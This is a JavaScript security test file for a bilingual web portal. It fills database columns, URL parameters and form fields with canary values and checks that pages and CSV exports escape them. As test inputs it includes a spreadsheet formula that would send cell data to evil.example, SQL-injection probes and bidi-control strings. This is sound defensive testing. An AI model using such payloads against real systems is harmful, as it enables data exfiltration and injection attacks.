// SPDX-License-Identifier: Apache-2.0
// tests/http/canary.test.mjs: XS2, XE3, CV1: a canary in every column that there is and in every parameter and field that pages have,
// on every page, form, fragment and file of the shipped portal, in both languages. Generated from the database's catalogue and the
// routes: a new column and a new page are tested the day they are made. SQLite keeps whatever it is given; on the others a column gets
// as much of it as it holds, and what their types forbid is no danger there: a day is a day, and text is UTF-8.

import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';

import { HAEROY } from '../fixtures/people.mjs';
import { ACTIONS } from '../fixtures/routes.mjs';
import { CANARY, assertCleanAnswer, csvCells } from '../harness/canary.mjs';
import { of } from '../harness/database.mjs';
import { withMatrix } from '../harness/matrix.mjs';
import { withSite } from '../harness/site.mjs';

const LANGUAGES = ['en', 'nb'];
const quote = (text) => `'${text.replace(/'/g, "''")}'`;

// By these, rows are found or joined, or somebody is signed in: a canary there leads nowhere.
const KEYS = /^(id|.*_id|id_hash|ref|portal|email|role|code|password_hash|session_hash|nonce|bucket|who)$/;
const ENGINE = ['mya_throttle', 'mya_once', 'mya_schema', 'mya_kept', 'mya_serial', 'mya_event', 'mya_membership', 'mya_lease'];

const CATALOGUE = (schema) => `SELECT c.table_name AS "table", c.column_name AS "column", c.data_type AS type, c.character_maximum_length AS length
  FROM information_schema.columns c JOIN information_schema.tables t ON t.table_schema = c.table_schema AND t.table_name = c.table_name
  WHERE c.table_schema = ${schema} AND t.table_type = 'BASE TABLE' ORDER BY c.table_name, c.ordinal_position`;
const COLUMNS = of({
  sqlite: `SELECT t.name AS "table", c.name AS "column", c.type, NULL AS length FROM sqlite_master t, pragma_table_info(t.name) c WHERE t.type = 'table' AND t.name NOT LIKE 'sqlite_%'`,
  postgresql: CATALOGUE("'public'"),
  mariadb: CATALOGUE('database()'),
});

// All columns of text that are not keys: [{ table, column, length }]; length in characters, null where the database minds none.
function columnsOf(site) {
  return site.rows(COLUMNS).filter(({ table, column, type }) => !ENGINE.includes(table) && !KEYS.test(column) && /char|text/i.test(type));
}

// Let the session write what constraints forbid.
const FREELY = of({
  sqlite: 'PRAGMA foreign_keys = OFF; PRAGMA ignore_check_constraints = ON;',
  postgresql: `SET session_replication_role = replica;
    DO $mya$ DECLARE c record;
    BEGIN
      FOR c IN SELECT conrelid::regclass AS name, conname FROM pg_constraint WHERE contype = 'c' AND connamespace = 'public'::regnamespace LOOP
        EXECUTE format('ALTER TABLE %s DROP CONSTRAINT %I', c.name, c.conname);
      END LOOP;
    END $mya$;`,
  mariadb: 'SET foreign_key_checks = 0, check_constraint_checks = 0;',
});

// COLUMN of TABLE becomes VALUE, an expression; but for rows whose key would then be another's.
const UPDATE = of({
  sqlite: (table, column, value) => `UPDATE OR IGNORE ${table} SET ${column} = ${value};`,
  postgresql: (table, column, value) => `DO $mya$ DECLARE at tid;
    BEGIN
      UPDATE ${table} SET ${column} = ${value};
    EXCEPTION WHEN unique_violation THEN
      FOR at IN SELECT ctid FROM ${table} LOOP
        BEGIN
          UPDATE ${table} SET ${column} = ${value} WHERE ctid = at;
        EXCEPTION WHEN unique_violation THEN NULL;
        END;
      END LOOP;
    END $mya$;`,
  mariadb: (table, column, value) => `UPDATE IGNORE ${table} SET ${column} = ${value};`,
});

const fill = (site, columns, value) => site.sql(`${FREELY} ${columns.map(({ table, column, length }) => UPDATE(table, column, length ? `substr(${value}, 1, ${length})` : value)).join('\n')}`);

// Control characters, what is no UTF-8, no character, half of one, too long a form of one, or turns the direction of reading round.
const BYTES = ['00', '0b1b5b324a', 'c0af', 'ff', 'eda080', 'efbfbe', 'f4908080', 'e280a8', 'e280ae', 'c3'];
// Of these, what no column of the database holds: it refuses what is no UTF-8 (MariaDB not half a character), and PostgreSQL a zero byte.
const REFUSED = of({ sqlite: [], postgresql: ['00', 'c0af', 'ff', 'eda080', 'f4908080', 'c3'], mariadb: ['c0af', 'ff', 'f4908080', 'c3'] });
const BYTES_AS_TEXT = of({
  sqlite: (hex) => `CAST(x'${hex}' AS TEXT)`,
  postgresql: (hex) => `convert_from(decode('${hex}', 'hex'), 'UTF8')`,
  mariadb: (hex) => `_utf8mb4 x'${hex}'`,
});

// What is formatted, not shown as it is: a day, a time, a code of something.
const FORMED = /^(kind|currency|country|language|zone|issued|due|cancelled|paid_at|means|created|signed_in|last_seen|expires|ended|name|unit)$/;

const withPages = (title, work) => {
  describe(title, () => {
    const site = withSite();
    const matrix = withMatrix(site, title);
    const pages = () => matrix.gets.filter(({ kind }) => ['page', 'action', 'fragment', 'export', 'switch', 'sign-out'].includes(kind));

    // All that anna sees, in each language: WORK(answer, route, where).
    async function walk(see) {
      for (const language of LANGUAGES) {
        site.sql(`UPDATE mya_user SET language = '${language}';`);
        site.shiftClock(61);   // files and searches are rationed by the minute
        for (const route of pages()) {
          const address = matrix.address(route);
          const answer = await matrix.clients.owner.get(address);
          matrix.checks += 1;
          await see(answer, route, `${language} ${address}`);
        }
        for (const address of ['/', '/products.html', '/account/nothing', '/account/invoices?zz=1']) await see(await matrix.clients.owner.get(address), { kind: 'site' }, `${language} ${address}`);
      }
    }
    work(site, matrix, walk);
  });
};

withPages('what is stored comes out as text', (site, matrix, walk) => {
  before(() => {
    const columns = columnsOf(site).filter(({ column }) => !FORMED.test(column) || column === 'name');
    assert.ok(columns.length >= 15, `${columns.length} columns`);
    const numbers = columns.filter(({ column }) => column === 'number');
    assert.equal(numbers.length, 2);
    fill(site, columns.filter((at) => !numbers.includes(at)), quote(CANARY));
    fill(site, numbers, `number || ${quote(CANARY)}`);
    const data = quote(JSON.stringify({ city_from: CANARY, city_to: `${CANARY}2`, [`${CANARY}_from`]: 'a', [`${CANARY}_to`]: 'b' }));
    site.sql(`INSERT INTO mya_event (id, portal, type, subject, user_id, customer_id, actor, data, at)
      SELECT 'canary' || substr(id, 1, 26), portal, ${quote(CANARY)}, ${quote(CANARY)}, id, '${HAEROY}', id, ${data}, '2026-06-15 08:00:00' FROM mya_user;
      INSERT INTO mya_event (id, portal, type, subject, user_id, customer_id, actor, data, at)
      SELECT 'canar2' || substr(id, 1, 26), portal, 'user.changed', 'details', id, '${HAEROY}', id, ${data}, '2026-06-15 08:00:01' FROM mya_user;`);
  });

  test('on every page, form, fragment and file, in both languages', async () => {
    const seen = { pages: 0, files: 0 };
    await walk((answer, route, where) => {
      if (['page', 'action', 'export', 'fragment'].includes(route.kind)) assert.equal(answer.status, 200, where);
      assertCleanAnswer(answer, where);
      if (route.kind === 'export') {
        const cells = csvCells(answer.text);
        assert.ok(cells.every((row) => row.length === cells[0].length), `${where}: each row has as many cells`);
        seen.files += cells.flat().some((cell) => cell.includes(CANARY)) ? 1 : 0;
      } else if (answer.page.text.includes(CANARY.slice(2, 30))) {
        seen.pages += 1;
      }
    });
    assert.ok(seen.pages >= 2 * 12, `it was seen on ${seen.pages} pages`);
    assert.ok(seen.files >= 2 * 2, `it was seen in ${seen.files} files`);
  });
});

// CV1
withPages('what a spreadsheet would run', (site, matrix, walk) => {
  before(() => fill(site, columnsOf(site).filter(({ column }) => !FORMED.test(column)), quote('=HYPERLINK("http://evil.example/?x="&A1,"x")')));

  test('is text in every file, in both languages', async () => {
    let cells = 0;
    await walk((answer, route, where) => {
      if (route.kind !== 'export') return;
      for (const cell of csvCells(answer.text).flat()) {
        assert.doesNotMatch(cell, /^[=+@\t\r]|^-(?![\d.,\u00a0\u202f]+$)/, where);
        cells += cell.startsWith("'=HYPERLINK") ? 1 : 0;
      }
    });
    assert.ok(cells >= 4, `${cells} cells`);
  });
});

// XE3: one column after the other
withPages('what no column should hold', (site, matrix, walk) => {
  test('in days, codes, currencies and units is text, and costs no page', async () => {
    site.allowLog(/a user has set the time zone/);
    for (const { table, column, length } of columnsOf(site).filter((at) => FORMED.test(at.column) && at.table !== 'mya_session' && !(at.table === 'mya_user' && at.column === 'language'))) {
      const held = `canary_${table}`;
      site.sql(`CREATE TABLE ${held} AS SELECT * FROM ${table};`);
      fill(site, [{ table, column, length }], quote(CANARY));
      assert.ok(site.value(`SELECT count(*) FROM ${table}`) === 0 || site.value(`SELECT count(*) FROM ${table} WHERE ${column} LIKE '"''%'`) > 0, `${table}.${column} holds it`);
      await walk((answer, route, where) => {
        assert.ok([200, 303, 400, 403, 404].includes(answer.status), `${table}.${column}, ${where}: ${answer.status}`);
        assertCleanAnswer(answer, `${table}.${column}, ${where}`);
      });
      site.sql(`${FREELY} DELETE FROM ${table}; INSERT INTO ${table} SELECT * FROM ${held}; DROP TABLE ${held};`);
    }
    await walk((answer, route, where) => assert.ok(answer.status < 500, where));
  });

  test('as bytes is shown as far as it can be, and breaks no page', async () => {
    const columns = columnsOf(site).filter(({ column }) => !FORMED.test(column) || column === 'name');
    for (const hex of BYTES) {
      const text = BYTES_AS_TEXT(`4f6464${hex}`);
      if (REFUSED.includes(hex)) {
        assert.throws(() => fill(site, columns, text), /invalid byte sequence|Invalid utf8mb4 character string/, hex);
        continue;
      }
      fill(site, columns, text);
      await walk((answer, route, where) => {
        assert.ok(answer.status < 500, `${hex}, ${where}: ${answer.status}`);
        assert.equal(Buffer.from(answer.text, 'utf8').compare(answer.body), 0, `${hex}, ${where}: it is UTF-8 throughout`);
        assert.doesNotMatch(answer.text, /[\0-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/, `${hex}, ${where}: a control character`);
      });
    }
  });
});

withPages('what comes with a request comes back as text or not at all', (site, matrix, walk) => {
  test('in every parameter that a page has', async () => {
    let parameters = 0;
    await walk(async (answer, route, where) => {
      if (route.kind !== 'page' || answer.status !== 200) return;
      const names = new Set(['done', 'page', 'size', 'sort', 'q', ...answer.page.forms.filter(({ method }) => method === 'get').flatMap(({ names: of }) => of)]);
      const path = where.split(' ')[1];
      for (const name of names) {
        for (const value of [CANARY, `${CANARY}${'x'.repeat(300)}`, `%${CANARY}_`, '\u202e\u2028evil', '1;--', "x'||'"]) {
          const back = await matrix.clients.owner.get(`${path}?${encodeURIComponent(name)}=${encodeURIComponent(value)}`);
          assert.ok([200, 400, 404, 414, 422, 429].includes(back.status), `${where} ${name}=${value.slice(0, 20)}: ${back.status}`);
          assertCleanAnswer(back, `${where} ${name}`);
          parameters += 1;
        }
      }
    });
    assert.ok(parameters > 200, `${parameters} parameters`);
  });

  test('in every field that a form has', async () => {
    let fields = 0;
    for (const language of LANGUAGES) {
      site.sql(`UPDATE mya_user SET language = '${language}';`);
      for (const route of matrix.posts) {
        const client = route.kind === 'sign-in' ? site.client({ address: '127.0.8.1' }) : matrix.clients.owner;
        const address = matrix.address(route);
        const form = (await client.get(address)).page.form(address.replace('/account', ''));
        for (const name of form.names.filter((at) => at !== 'mya.token')) {
          for (const value of [CANARY, CANARY.slice(0, 19), `\u202e${CANARY}`]) {
            const answer = await client.follow(await client.send(form, { ...ACTIONS[route.path], ...(ACTIONS[route.path]?.['mya.password'] ? { 'mya.password': 'not the right one' } : {}), [name]: value }));
            assert.ok(answer.status < 500, `${route.path} ${name}: ${answer.status}`);
            assertCleanAnswer(answer, `${language} ${route.path} ${name}`);
            fields += 1;
          }
        }
        await client.send(form, { 'mya.token': CANARY }).then((answer) => assertCleanAnswer(answer, `${route.path} token`));
      }
    }
    assert.ok(fields > 60, `${fields} fields`);
    await walk((answer, route, where) => assertCleanAnswer(answer, `afterwards ${where}`));
  });
});
